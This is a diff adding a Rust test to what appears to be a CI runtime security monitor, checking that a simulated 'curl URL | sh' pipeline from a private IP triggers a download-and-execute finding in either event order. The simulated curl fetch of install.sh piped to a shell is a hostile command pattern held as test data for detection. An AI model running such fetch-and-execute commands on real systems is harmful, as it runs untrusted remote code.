@@ -43,3 +43,45 @@ fn a_connect_made_outside_connect_syscall_is_judged_and_a_refusal_says_blocked()
     assert_eq!(f.evidence["via"], "other_connect");
     assert_eq!(f.evidence["blocked"], true);
 }
+
+/// `curl URL | sh`: the downloader's connection and the shell's exec travel on different
+/// rings, so either may be read first; the pipeline is judged both ways.
+#[test]
+fn a_download_piped_into_a_shell_is_found_whichever_record_comes_first() {
+    for shell_first in [true, false] {
+        let mut sim = Sim::new(profile("version: 1\negress:\n  allow: []\n"));
+        sim.runner().run_step(300, "__run");
+        let shell = |sim: &mut Sim| {
+            sim.spawn(
+                300,
+                320,
+                "/usr/bin/dash",
+                &["sh"],
+                WORKSPACE,
+                github_env("__run"),
+            );
+        };
+        if shell_first {
+            shell(&mut sim);
+        }
+        sim.spawn(
+            300,
+            310,
+            "/usr/bin/curl",
+            &["curl", "-s", "http://10.0.0.9:8080/install.sh"],
+            WORKSPACE,
+            github_env("__run"),
+        );
+        sim.connect(310, "10.0.0.9", 8080);
+        if !shell_first {
+            shell(&mut sim);
+        }
+        let found = sim
+            .findings
+            .iter()
+            .find(|f| f.rule == "download-and-execute")
+            .unwrap_or_else(|| panic!("shell first: {shell_first}: {:?}", sim.rules()));
+        assert_eq!(found.evidence["interpreter"], "sh");
+        assert_eq!(found.evidence["destination"], "10.0.0.9:8080");
+    }
+}
